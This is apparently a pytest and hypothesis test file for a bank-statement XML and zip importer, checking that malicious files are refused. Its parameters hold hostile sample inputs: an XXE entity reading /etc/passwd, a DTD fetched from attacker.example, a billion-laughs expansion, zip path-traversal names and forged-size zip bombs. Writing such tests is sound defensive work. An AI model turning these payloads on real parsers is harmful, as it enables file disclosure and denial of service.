"""Files made to harm: refused with our own error, never read, never unpacked without end."""

import io
import struct
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from services.bank import UnreadableFile
from services.bank.archive import LARGEST_DOCUMENT, MOST_MEMBERS, documents
from services.bank.camt import read_document
from tests.factories.bank import MONDAY, Row, Statement, camt, zipped

GOOD = camt(Statement(1, MONDAY, "0.00", "10.00", [Row("10.00", "R1")]))
SAMPLE = (Path(__file__).parent / "samples" / "camt053-v08.xml").read_bytes()


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE Document SYSTEM "http://attacker.example/evil.dtd">',
        '<!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_doctype_is_refused_in_any_encoding(doctype: str, encoding: str):
    text = camt(Statement(1, MONDAY, "0.00", "1.00"), prolog=doctype).decode().replace("UTF-8", encoding)
    with pytest.raises(UnreadableFile, match="DOCTYPE"):
        read_document(text.encode(encoding))


def test_depth_and_size_are_capped():
    deep = b"<a>" * 5000 + b"</a>" * 5000
    with pytest.raises(UnreadableFile):
        read_document(deep)
    with pytest.raises(UnreadableFile, match="larger than"):
        read_document(b" " * (LARGEST_DOCUMENT + 1))


def test_a_zip_of_statements_is_read_member_by_member():
    members = dict(documents(zipped({"a.xml": GOOD, "b.xml": b"nonsense"}), "x.zip"))
    assert members == {"a.xml": GOOD, "b.xml": b"nonsense"}


@pytest.mark.parametrize("name", ["../evil.xml", "/etc/x.xml", "dir/a.xml", "c:\\x.xml", "..\\x.xml", ".hidden.xml"])
def test_paths_in_a_zip_are_refused(name: str):
    ((_, content),) = documents(zipped({name: GOOD}), "x.zip")
    assert isinstance(content, UnreadableFile)
    assert "plain file names" in content.sentence


def test_a_bomb_is_not_unpacked():
    ((_, content),) = documents(zipped({"a.xml": b"\0" * (32 << 20)}), "x.zip")
    assert isinstance(content, UnreadableFile)
    assert "unpacks to more" in content.sentence


def test_a_bomb_that_lies_about_its_size_is_not_unpacked():
    data = bytearray(zipped({"a.xml": b"\0" * (32 << 20)}))
    directory = data.index(b"PK\x01\x02")
    struct.pack_into("<I", data, directory + 24, 100)
    struct.pack_into("<I", data, 22, 100)
    ((_, content),) = documents(bytes(data), "x.zip")
    assert isinstance(content, UnreadableFile)


def test_too_many_members_other_packings_and_encryption_are_refused():
    with pytest.raises(UnreadableFile, match="from 1 to"):
        list(documents(zipped({f"{n}.xml": b"x" for n in range(MOST_MEMBERS + 1)}), "x.zip"))
    ((_, content),) = documents(zipped({"a.xml": GOOD}, zipfile.ZIP_LZMA), "x.zip")
    assert isinstance(content, UnreadableFile)
    data = bytearray(zipped({"a.xml": GOOD}))
    data[data.index(b"PK\x01\x02") + 8] |= 1
    ((_, content),) = documents(bytes(data), "x.zip")
    assert isinstance(content, UnreadableFile)
    assert "encrypted" in content.sentence


def test_an_empty_or_broken_zip_is_refused():
    buffer = io.BytesIO()
    zipfile.ZipFile(buffer, "w").close()
    for data in (buffer.getvalue(), b"PK\x03\x04rubbish", zipped({"a.xml": GOOD})[:-30]):
        with pytest.raises(UnreadableFile):
            list(documents(data, "x.zip"))


def only_our_error(data: bytes) -> None:
    try:
        for _, content in documents(data, "fuzz"):
            if isinstance(content, bytes):
                read_document(content)
    except UnreadableFile:
        pass


@given(st.binary(max_size=2000))
@example(b"PK\x05\x06" + b"\0" * 18)
@settings(deadline=None)
def test_random_bytes_raise_only_our_error(data: bytes):
    only_our_error(data)


@given(st.data())
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.data_too_large])
def test_damaged_statements_raise_only_our_error(data: st.DataObject):
    source = data.draw(st.sampled_from([SAMPLE, zipped({"a.xml": SAMPLE})]))
    damaged = bytearray(source)
    for _ in range(data.draw(st.integers(1, 6))):
        at = data.draw(st.integers(0, len(damaged) - 1))
        end = at + data.draw(st.integers(0, 20))
        damaged[at:end] = data.draw(st.binary(max_size=12))
    only_our_error(bytes(damaged))


@given(st.text(st.characters(blacklist_categories=["Cs", "Cc"], blacklist_characters="<&"), max_size=40), st.data())
@settings(max_examples=300, deadline=None)
def test_any_text_in_any_place_raises_only_our_error(text: str, data: st.DataObject):
    pieces = SAMPLE.decode().split(">")
    index = data.draw(st.integers(2, len(pieces) - 2))
    before, _, tag = pieces[index].rpartition("<")
    pieces[index] = f"{before and text}<{tag}" if data.draw(st.booleans()) else f"{text}<{tag}"
    only_our_error(">".join(pieces).encode())
